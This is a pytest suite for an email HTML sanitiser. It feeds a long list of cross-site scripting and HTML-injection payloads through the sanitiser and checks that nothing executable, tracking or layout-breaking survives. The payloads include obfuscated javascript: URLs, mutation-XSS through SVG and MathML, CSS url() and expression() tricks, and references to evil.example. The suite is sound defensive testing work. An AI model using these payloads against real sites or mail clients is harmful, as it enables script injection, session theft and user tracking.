"""HTML of strangers: nothing of it acts, leads astray, reaches out of its place, or tells that it was read."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from addons.mail.sanitise import ATTRIBUTES, STYLES, TAGS, sanitise

CIDS = {"logo@x": "/x/mail/file/7"}
ALLOWED = {"target", "rel", "data-remote", "class", "loading", "referrerpolicy"}


class Check(HTMLParser):
    """Fails on anything that must not be there."""

    def __init__(self, remote):
        super().__init__()
        self.remote = remote

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS | {"pre"}, tag
        for name, value in attrs:
            value = value or ""
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | ALLOWED, (tag, name)
            if name == "href":
                assert re.match(r"(?i)\s*(https?://|mailto:|tel:)", value), value
            if name == "src":
                assert (
                    value == "/x/mail/file/7"
                    or value.startswith("data:image/")
                    or (self.remote and re.match("(?i)https?://", value))
                ), value
            if name == "class":
                assert (tag, value) == ("img", "mail-picture")
            if name == "style":
                assert not re.search(r"(?i)url|expression|position|javascript|@|\\|/\*|fixed|-\d", value), value
                assert all(one.split(":")[0].strip() in STYLES for one in value.split(";") if one.strip())
        if tag == "a":
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow" and dict(attrs)["target"] == "_blank"

    def handle_comment(self, data):
        raise AssertionError(data)

    def handle_decl(self, decl):
        raise AssertionError(decl)


def checked(html, remote=False):
    shown = sanitise(html, remote, CIDS)
    Check(remote).feed(shown.html)
    assert sanitise(shown.html, remote, CIDS).html.count("<script") == 0
    return shown


VECTORS = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/xss src=https://evil.example></script>
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src=javascript:alert(1)>
<img src=JaVaScRiPt:alert(1)>
<img src="jav&#x09;ascript:alert(1)">
<img src="jav&#x0A;ascript:alert(1)">
<img src=" &#14; javascript:alert(1)">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img """><script>alert(1)</script>">
<img src=`javascript:alert("x")`>
<img src='vbscript:msgbox(1)'>
<img src="data:text/html;base64,PHNjcmlwdD4=">
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<img src="//evil.example/x.png">
<img src="/logout">
<img src="logout">
<img src="cid:unknown">
<img srcset="https://evil.example/x.png 1x">
<img src=x lowsrc=javascript:1 dynsrc=javascript:1>
<img src="https://evil.example/x.png" style="position:fixed;top:0">
<img data-remote="javascript:alert(1)" src="https://a.example/x" class="modal">
<picture><source srcset="https://evil.example/x"><img src=x></picture>
<a href="javascript:alert(1)">x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="  javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="/x/admin/delete">x</a>
<a href="#top" id="top" name="top">x</a>
<a href="//evil.example">x</a>
<a href="https://ok.example" target="_self" rel="opener" onclick="alert(1)">x</a>
<a href="https://ok.example" ping="https://evil.example">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe src=https://evil.example></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data=javascript:alert(1)><embed src=javascript:alert(1)>
<embed src="https://evil.example/x.swf" allowscriptaccess=always>
<applet code=x></applet>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url(https://evil.example)}</style>
<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>
<input type=image src=https://evil.example/x.png>
<select><option><style></option></select><img src=x onerror=alert(1)></style>
<textarea></textarea><img src=x onerror=alert(1)>
<isindex action=javascript:alert(1)>
<body onload=alert(1) background="https://evil.example/x.png">
<table background="https://evil.example/x.png"><td background="javascript:1">x</table>
<td style="background-image:url(https://evil.example/x.png)">x</td>
<div style="background:url('https://evil.example')">x</div>
<div style="background:u\72l(https://evil.example)">x</div>
<div style="background:/**/url(https://evil.example)">x</div>
<div style="background:image-set('https://evil.example' 1x)">x</div>
<div style="width: expression(alert(1))">x</div>
<div style="wid\74h: exp/**/ression(alert(1))">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>
<div style="position:absolute;top:-50px">x</div>
<div style="margin-top:-500px">x</div>
<div style="margin:0 0 -500px -.5em">x</div>
<div style="width:99999999px">x</div>
<div style="color:red;}</style><script>alert(1)</script>">x</div>
<div style='font-family:"x;}" onmouseover=alert(1) "'>x</div>
<div style="display:flex;transform:scale(100);opacity:0">x</div>
<div class="modal-backdrop position-fixed" id="menu">x</div>
<div dir="rtl" onmouseover="alert(1)" data-bs-toggle="modal" hx-get="/x" contenteditable autofocus tabindex=1>x</div>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src=https://evil.example/x poster=https://evil.example/p onerror=alert(1)></video>
<audio src=https://evil.example/x></audio>
<marquee onstart=alert(1)>x</marquee>
<xss id=x onfocus=alert(1) tabindex=1>#x</xss>
<template><script>alert(1)</script></template>
<plaintext><img src=x onerror=alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><?php echo 1 ?>
<!DOCTYPE html [<!ENTITY x "y">]><html><head><title></title><script>1</script></head><body>x
<p title="</p><script>alert(1)</script>">x</p>
<b <script>alert(1)</script>0
<IMG SRC="https://evil.example/x.png"><IMG SRC='https://evil.example/y.png'
<img/src=https://evil.example/x/onerror=alert(1)>
<img alt="a>b" title='" onerror="alert(1)' src="https://evil.example/?a='b&quot;c">
<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
<div><template shadowrootmode=open><script>alert(1)</script></template></div>
<dialog open>x</dialog><slot name=x>
'''.strip().split("\n")


@pytest.mark.parametrize("vector", VECTORS)
def test_known_attacks(vector):
    for remote in (False, True):
        shown = checked(vector, remote)
        assert not re.search(r"(?i)<script|<[^>]*\son\w+=", re.sub(r'"[^"]*"', '""', shown.html)), shown.html
        if not remote:
            assert "evil.example" not in re.sub(r'data-remote="[^"]*"|>[^<]*<|alt="[^"]*"|title="[^"]*"', "", shown.html)


@given(
    st.lists(
        st.one_of(
            st.sampled_from(VECTORS),
            st.sampled_from(
                ["<b>", "</b>", "<table>", "<td>", "</table>", "'", '"', ">", "<!--", "-->", "</style>", "<p>", "\x00"]
            ),
            st.text(max_size=8),
        ),
        max_size=7,
    ).map("".join),
    st.booleans(),
)
@settings(max_examples=250, deadline=None)
def test_any_mixture_of_them(html, remote):
    checked(html, remote)


@given(st.text(st.sampled_from(list("abcurl():;/*\\'\"@-0123456789 px#%!,.{}<>expositnfd&")), max_size=60))
@settings(max_examples=250, deadline=None)
def test_any_style(text):
    checked(f"<p style='{text}'>x</p><p style=\"color: red; margin: {text}\">x</p>")


def test_what_usual_mails_are_made_of_stays():
    html = (
        '<table width="600" cellpadding="0" border="0" bgcolor="#ffffff" style="border-collapse: collapse; max-width: 600px; font-size: 14px !important">'  # noqa: E501
        '<tbody><tr><td align="center" colspan="2" valign="top" style="padding: 10px 20px; background-color: #f7f7f7; font-family: Vazirmatn, '  # noqa: E501
        "'Segoe UI', Tahoma; line-height: 1.6; color: rgb(10, 20, 30)\">"
        '<p dir="rtl">سلام <b>Ayşe</b><br>۱۲۳</p></td></tr></tbody></table><blockquote>old</blockquote><ul><li>x</li></ul>'
    )
    shown = sanitise(html).html
    for piece in (
        'width="600"',
        'colspan="2"',
        "border-collapse",
        "max-width",
        "600px",
        "14px",
        "padding",
        "10px 20px",
        "#f7f7f7",
        "Vazirmatn",
        "Segoe UI",
        "1.6",
        'dir="rtl"',
        "سلام <b>Ayşe</b><br>",
        "<blockquote>old</blockquote>",
        "<ul><li>x</li></ul>",
        "rgb(10",
    ):
        assert piece in shown, (piece, shown)


def test_pictures():
    html = '<img src="https://track.example/p?a=1&amp;b=2" alt="logo" width="10"><img src="cid:Logo%40x"><img src="data:image/png;base64,AAAA"><img src="cid:none">'  # noqa: E501
    shown = sanitise(html, cids=CIDS)
    assert shown.blocked == 1
    assert '<img alt="logo" width="10" data-remote="https://track.example/p?a=1&amp;b=2" class="mail-picture">' in shown.html
    assert '<img src="/x/mail/file/7" alt="">' in shown.html and '<img src="data:image/png;base64,AAAA" alt="">' in shown.html
    assert shown.html.count("src=") == 2
    seen = sanitise(html, remote=True, cids=CIDS)
    assert (
        seen.blocked == 0 and 'src="https://track.example/p?a=1&amp;b=2" loading="lazy" referrerpolicy="no-referrer"' in seen.html
    )
    assert sanitise("<img src='cid:a'>", cids={"a": '/x"onerror="1'}).html == '<img src="/x&quot;onerror=&quot;1" alt="">'


def test_links():
    shown = sanitise(
        '<a href="https://a.example/?x=1&y=2">a</a><a href="mailto:a@b.example">b</a><a href="tel:+98912">c</a>'
    ).html
    assert (
        shown.count('target="_blank" rel="noopener noreferrer nofollow"') == 3
        and 'href="https://a.example/?x=1&amp;y=2"' in shown
    )


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<div><a href='https://x'>" * 50_000,
        "".join(f"<p><b id={n}>" for n in range(20_000)),
        "<table>" * 20_000,
        "<b>" * 250 + "<p>x</p>" * 50_000,
        "<" * 100_000,
        "<!--" * 100_000,
        "<a " * 50_000,
        "x" * 3_000_000,
        "<p style='" + "color:red;" * 100_000 + "'>",
        "<img src=https://x " + "a=b " * 50_000 + ">",
        "<svg>" * 5000 + "<p>" * 5000,
        "<a><table>" * 2000,
    ],
)
def test_html_beyond_measure_takes_little_time(html):
    begun = time.monotonic()
    checked(html)
    assert time.monotonic() - begun < 10
